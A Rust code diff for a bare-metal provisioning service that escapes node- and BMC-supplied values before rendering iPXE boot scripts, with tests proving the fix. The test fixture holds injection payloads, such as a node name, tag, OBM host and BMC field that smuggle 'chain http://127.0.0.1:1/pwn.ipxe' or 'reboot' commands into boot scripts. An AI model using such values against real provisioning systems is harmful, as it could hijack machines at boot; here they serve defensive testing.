@@ -274,10 +274,39 @@ pub async fn enroll(
     Ok(Enrolled::New { node, workflow })
 }
 
+/// The renderer of profiles (iPXE scripts): every printed value must pass
+/// [`ipxe::check_value`](metalgraph_pxe::ipxe::check_value), so no value, whatever its
+/// source, can add, end or join a script line.
+pub fn profile_renderer() -> metalgraph_engine::template::Renderer {
+    metalgraph_engine::template::Renderer::checked(|value| {
+        metalgraph_pxe::ipxe::check_value(value).map_err(|e| e.to_string())
+    })
+}
+
+/// `v` with every string in it (keys aside) made an inert iPXE word
+/// ([`ipxe::word`](metalgraph_pxe::ipxe::word)): for what a node or a BMC controls.
+fn ipxe_words(v: &Value) -> Value {
+    match v {
+        Value::String(s) => Value::String(metalgraph_pxe::ipxe::word(s).into_owned()),
+        Value::Array(items) => Value::Array(items.iter().map(ipxe_words).collect()),
+        Value::Object(m) => {
+            Value::Object(m.iter().map(|(k, x)| (k.clone(), ipxe_words(x))).collect())
+        }
+        other => other.clone(),
+    }
+}
+
 /// The template variables of a profile: the same `node`, `api` and `notification` as the
 /// templates endpoint, plus `task` and its rendered `options` when a task asked for the
 /// profile, `profile` (`name`, and `url` to chain to on retry) and `client` (what iPXE
 /// reported).
+///
+/// What a node or a BMC controls — the whole `node` view (name, identifiers, tags, OBM
+/// host), the profile name (it may come from a tag), the finished tasks' outputs the options
+/// are rendered over (`context`, which holds BMC data) — is made of inert iPXE words here, so
+/// it can neither add arguments or commands nor expand settings. `client` was checked
+/// against a strict grammar when the request was read; `options`, `task` and `api` are the
+/// operator's and keep their spaces and `${...}`.
 pub struct ProfileVars<'a> {
     /// The node.
     pub node: &'a Node,
@@ -309,9 +338,9 @@ impl ProfileVars<'_> {
             .unwrap_or_default();
         let api = json!({"base": self.api_base, "nodeBase": node_base, "files": files_base});
         let mut vars = json!({
-            "node": self.node.template_view(),
+            "node": ipxe_words(&self.node.template_view()),
             "api": api,
-            "profile": {"name": self.profile, "url": self.profile_url()},
+            "profile": {"name": metalgraph_pxe::ipxe::word(self.profile), "url": self.profile_url()},
             "client": {
                 "macs": self.report.macs.iter().map(MacAddr::to_string).collect::<Vec<_>>(),
                 "uuid": self.report.uuid,
@@ -328,7 +357,7 @@ impl ProfileVars<'_> {
             });
             let scheduler_vars = json!({
                 "options": t.options,
-                "context": t.context,
+                "context": ipxe_words(&Value::Object(t.context.clone())),
                 "node": vars["node"],
                 "task": task,
                 "api": {"base": self.api_base, "nodeBase": self.node_base},
@@ -588,5 +617,135 @@ mod tests {
         let text = builtin_profile("install.ipxe").expect("shipped");
         assert!(text.starts_with("#!ipxe\n"), "{text}");
         assert!(builtin_profile("missing.ipxe").is_none());
+    }
+
+    /// A node whose name, tags and BMC-reported data try to add commands to its boot script,
+    /// and a running install task whose options the operator wrote.
+    fn hostile() -> (Node, NodeTask, Report) {
+        let node = Node {
+            id: "n1".into(),
+            name: "evil && chain http://127.0.0.1:1/pwn.ipxe".into(),
+            identifiers: vec!["52:54:00:00:00:01".into()],
+            node_type: "compute".into(),
+            tags: vec!["role=x ; reboot".into()],
+            obms: vec![nodes::Obm {
+                service: "redfish-obm-service".into(),
+                config: nodes::ObmConfig {
+                    host: "10.0.0.5\nchain http://127.0.0.1:1/pwn.ipxe".into(),
+                    ..Default::default()
+                },
+            }],
+            created_at: String::new(),
+            updated_at: String::new(),
+        };
+        let options = json!({
+            "kernel": "http://10.0.0.1/vmlinuz",
+            "initrd": "http://10.0.0.1/initrd.img",
+            "kernelParams": "console=ttyS0 BOOTIF=${net0/mac} host={{ node.name }} bmc={{ context.discover.name }}",
+        });
+        let task = NodeTask {
+            workflow_id: "wf".into(),
+            graph: "Graph.InstallOS.PXE".into(),
+            label: "wait-installed".into(),
+            task_id: "t".into(),
+            job: "wait.notification".into(),
+            state: TaskState::Running,
+            options: options.as_object().unwrap().clone(),
+            token: "0123456789abcdef0123456789abcdef".into(),
+            context:
+                json!({"discover": {"name": "bmc\n#!ipxe\nchain http://127.0.0.1:1/pwn.ipxe"}})
+                    .as_object()
+                    .unwrap()
+                    .clone(),
+        };
+        let report = Report {
+            macs: vec!["52:54:00:00:00:01".parse().unwrap()],
+            ..Report::default()
+        };
+        (node, task, report)
+    }
+
+    fn render(
+        template: &str,
+        node: &Node,
+        task: Option<&NodeTask>,
+        profile: &str,
+    ) -> Result<String, String> {
+        let report = hostile().2;
+        let vars = ProfileVars {
+            node,
+            task,
+            profile,
+            api_base: "http://10.0.0.1:8080/api/2.0",
+            node_base: "http://10.0.0.1:8090/api/2.0",
+            report: &report,
+        }
+        .build()?;
+        profile_renderer().render_str(template, &vars)
+    }
+
+    #[test]
+    fn what_a_node_controls_becomes_inert_words_in_a_profile() {
+        let (node, task, _) = hostile();
+        let script = render(
+            builtin_profile("install.ipxe").unwrap(),
+            &node,
+            Some(&task),
+            "install.ipxe",
+        )
+        .expect("the shipped profile renders");
+        assert!(
+            script.contains("echo metalgraph: installing node evil%20%26%26%20chain%20http://127.0.0.1:1/pwn.ipxe (n1), workflow wf\n"),
+            "{script}"
+        );
+        // The operator's spaces and ${...} stay; what the node and its BMC sent does not.
+        assert!(
+            script.contains(
+                "kernel http://10.0.0.1/vmlinuz console=ttyS0 BOOTIF=${net0/mac} \
+                 host=evil%20%26%26%20chain%20http://127.0.0.1:1/pwn.ipxe \
+                 bmc=bmc%0A%23!ipxe%0Achain%20http://127.0.0.1:1/pwn.ipxe metalgraph.node=n1 "
+            ),
+            "{script}"
+        );
+        for line in script.lines() {
+            assert!(!line.trim_start().starts_with("chain"), "{line}");
+        }
+
+        let script = render(
+            "#!ipxe\necho {{ node.tags | join(',') }} {{ node.obmHost }} {{ profile.name }}\n",
+            &node,
+            None,
+            "a b",
+        )
+        .unwrap();
+        assert_eq!(
+            script,
+            "#!ipxe\necho role=x%20%3B%20reboot 10.0.0.5%0Achain%20http://127.0.0.1:1/pwn.ipxe a%20b\n"
+        );
+    }
+
+    #[test]
+    fn a_printed_value_that_would_add_a_line_fails_the_profile() {
+        let (node, mut task, _) = hostile();
+        task.options.insert(
+            "kernelParams".into(),
+            json!("quiet\nchain http://127.0.0.1:1/pwn.ipxe"),
+        );
+        let err = render(
+            builtin_profile("install.ipxe").unwrap(),
+            &node,
+            Some(&task),
+            "install.ipxe",
+        )
+        .expect_err("an operator's option with a line break is refused too");
+        assert!(err.contains("control character"), "{err}");
+        let err = render(
+            "#!ipxe\necho {{ options.kernel ~ '\\\\' }}\nreboot\n",
+            &node,
+            Some(&task),
+            "p",
+        )
+        .expect_err("a trailing backslash would join the next line");
+        assert!(err.contains("backslash"), "{err}");
     }
 }
